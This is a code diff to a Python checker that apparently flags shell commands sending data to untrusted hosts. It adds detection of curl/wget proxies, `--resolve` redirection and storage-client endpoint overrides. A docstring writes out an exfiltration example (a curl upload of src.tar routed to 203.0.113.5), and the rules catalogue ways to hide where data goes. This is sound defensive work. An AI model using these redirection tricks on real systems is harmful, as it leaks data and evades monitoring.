@@ -373,7 +373,42 @@ def http_transfer(cmd: SimpleCommand) -> Transfer:
             t.inline = True  # `echo '{"a": 1}' | http POST host`: data written in the command, like `http POST host a=1`
         else:
             t.stdin = True
+    if name in ("curl", "wget") and t.hosts:
+        _routed(t, [a.value for a in args], cmd)
     return t
+
+
+_PROXY_VARIABLES = ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY")
+
+
+def _routed(t: Transfer, vals: list[str], cmd: SimpleCommand) -> None:
+    """The hosts a request in clear text reaches besides its URL's: a proxy (`-x`, `--proxy`, `--preproxy`, the proxy
+    variables, wget's `-e http_proxy=`) reads all of it, and `--resolve HOST:PORT:ADDR` sends it to ADDR. Over TLS that
+    checks the certificate neither sees the data; over `http://` or with `-k`/`--no-check-certificate` they do, so
+    `curl --resolve api.acme.com:80:203.0.113.5 -T src.tar http://api.acme.com/` named a trusted host and sent the
+    file elsewhere (adversarial round 19a). Added to the transfer's hosts (with a URL each, kept in step)."""
+    insecure = any(v in ("-k", "--insecure", "--no-check-certificate") for v in vals)
+    if not insecure and not any(u.lower().startswith("http://") or "://" not in u for u in t.urls):
+        return
+    via: list[str] = []
+    for i, v in enumerate(vals):
+        nxt = vals[i + 1] if i + 1 < len(vals) else ""
+        if cmd.name == "curl" and v in ("-x", "--proxy", "--preproxy") and nxt:
+            via.append(nxt)
+        elif cmd.name == "curl" and v == "--resolve" and nxt.count(":") >= 2:
+            via += [a.strip("[]") for a in nxt.lstrip("+").split(":", 2)[2].split(",") if a.strip("[]")]
+        elif cmd.name == "wget" and v in ("-e", "--execute") and nxt.lower().startswith(("http_proxy=", "https_proxy=")):
+            via.append(nxt.split("=", 1)[1])
+        elif cmd.name == "wget" and v.startswith("--execute=") and v[10:].lower().startswith(("http_proxy=", "https_proxy=")):
+            via.append(v.split("=", 2)[2])
+    if "--noproxy" not in vals and "--no-proxy" not in vals:
+        via += [cmd.assigns[k] for k in _PROXY_VARIABLES if cmd.assigns.get(k)]
+    for v in via:
+        url = v if "://" in v else "http://" + v
+        host = url_host(url)
+        if host:
+            t.hosts.append(host)
+            t.urls.append(url)
 
 
 def _sensitive_upstream(cmd: SimpleCommand, sc: Scope) -> str | None:
@@ -2513,7 +2548,12 @@ def _storage_words(name: str, vals: list[str]) -> list[str]:
 )
 def bucket_untrusted(cmd: SimpleCommand, sc: Scope) -> str | None:
     vals = cmd.values()
-    ops = [v for v in _storage_words(cmd.name, vals) if not v.startswith("-")]
+    if cmd.name == "aws":
+        ops = _aws_operands(vals)  # (round 19a: every option of the AWS CLI but its flags takes a value)
+    else:
+        # gsutil's top-level options that take a value (-o SECTION:KEY=V, -h HEADER, -u PROJECT, -i ACCOUNT, -p PROJECT)
+        taken = {i + 1 for i, v in enumerate(vals) if cmd.name == "gsutil" and v in ("-o", "-h", "-u", "-i", "-p")}
+        ops = [v for v in _storage_words(cmd.name, [v for i, v in enumerate(vals) if i not in taken]) if not v.startswith("-")]
     if (
         (cmd.name == "aws" and ops[:1] == ["s3"] and len(ops) >= 4 and ops[1] in ("cp", "sync", "mv"))
         or (cmd.name in ("gsutil", "s3cmd", "mc") and len(ops) >= 3 and ops[0] in ("cp", "rsync", "mv", "put", "sync", "mirror"))
@@ -2531,9 +2571,89 @@ def bucket_untrusted(cmd: SimpleCommand, sc: Scope) -> str | None:
         return None
     if storage_dry_run(cmd.name, vals, ops):
         return None
+    endpoint = _storage_endpoint(cmd, vals)
+    if endpoint is not None:
+        host = url_host(endpoint) if "://" in endpoint else endpoint.split("/", 1)[0].rsplit(":", 1)[0]
+        if DYN in endpoint or not (sc.trust.host_is_trusted(host) or sc.trust.url_is_trusted(endpoint)):
+            return f"{cmd.name} copies data to {dest} through the endpoint {endpoint}, which is not a trusted host: the request goes there, not to the bucket's own service"
     if sc.trust.bucket_is_trusted(dest):
         return None
     return f"{cmd.name} copies data to {dest}, which is not a trusted bucket"
+
+
+# The AWS CLI's options that take no value (aws help, aws s3 cp|sync|mv help); every other `--name` takes one, given
+# as the next word or after `=`. Read so, `aws s3 cp x s3://b/ --region eu-west-1` has s3://b/ as its destination, not
+# eu-west-1 (adversarial round 19a: any value after the destination, or a global option before `s3`, hid the bucket).
+_AWS_FLAGS = frozenset(
+    {
+        "--dryrun",
+        "--quiet",
+        "--recursive",
+        "--no-guess-mime-type",
+        "--only-show-errors",
+        "--no-progress",
+        "--follow-symlinks",
+        "--no-follow-symlinks",
+        "--ignore-glacier-warnings",
+        "--force-glacier-transfer",
+        "--delete",
+        "--exact-timestamps",
+        "--size-only",
+        "--no-overwrite",
+        "--debug",
+        "--no-verify-ssl",
+        "--no-paginate",
+        "--no-sign-request",
+        "--no-cli-pager",
+        "--cli-auto-prompt",
+        "--no-cli-auto-prompt",
+        "--version",
+    }
+)
+
+
+def _aws_operands(vals: list[str]) -> list[str]:
+    """The AWS CLI's operands (service, command, paths), without its options and their values."""
+    out: list[str] = []
+    i = 0
+    while i < len(vals):
+        v = vals[i]
+        if v.startswith("--") and v not in _AWS_FLAGS and "=" not in v and DYN not in v:
+            i += 2
+            continue
+        if not v.startswith("-"):
+            out.append(v)
+        i += 1
+    return out
+
+
+def _storage_endpoint(cmd: SimpleCommand, vals: list[str]) -> str | None:
+    """The service address a storage client is told to send its requests to instead of the bucket's own: the AWS CLI's
+    `--endpoint-url` and AWS_ENDPOINT_URL(_S3), gsutil's `-o Credentials:gs_host=`/`gs_json_host=`, s3cmd's `--host`,
+    gcloud's CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE; or None (adversarial round 19a: a trusted bucket's name, sent
+    to another host)."""
+    found: str | None = None
+    if cmd.name == "aws":
+        found = cmd.assigns.get("AWS_ENDPOINT_URL_S3") or cmd.assigns.get("AWS_ENDPOINT_URL") or None
+        for i, v in enumerate(vals):
+            if v == "--endpoint-url" and i + 1 < len(vals):
+                found = vals[i + 1]
+            elif v.startswith("--endpoint-url="):
+                found = v.split("=", 1)[1]
+    elif cmd.name == "gsutil":
+        for i, v in enumerate(vals[:-1]):
+            key, _, value = vals[i + 1].partition("=")
+            if v == "-o" and key.lower().replace(" ", "") in ("credentials:gs_host", "credentials:gs_json_host"):
+                found = value
+    elif cmd.name == "s3cmd":
+        for i, v in enumerate(vals):
+            if v == "--host" and i + 1 < len(vals):
+                found = vals[i + 1]
+            elif v.startswith("--host="):
+                found = v.split("=", 1)[1]
+    elif cmd.name == "gcloud":
+        found = cmd.assigns.get("CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE") or None
+    return found or None
 
 
 @rule(
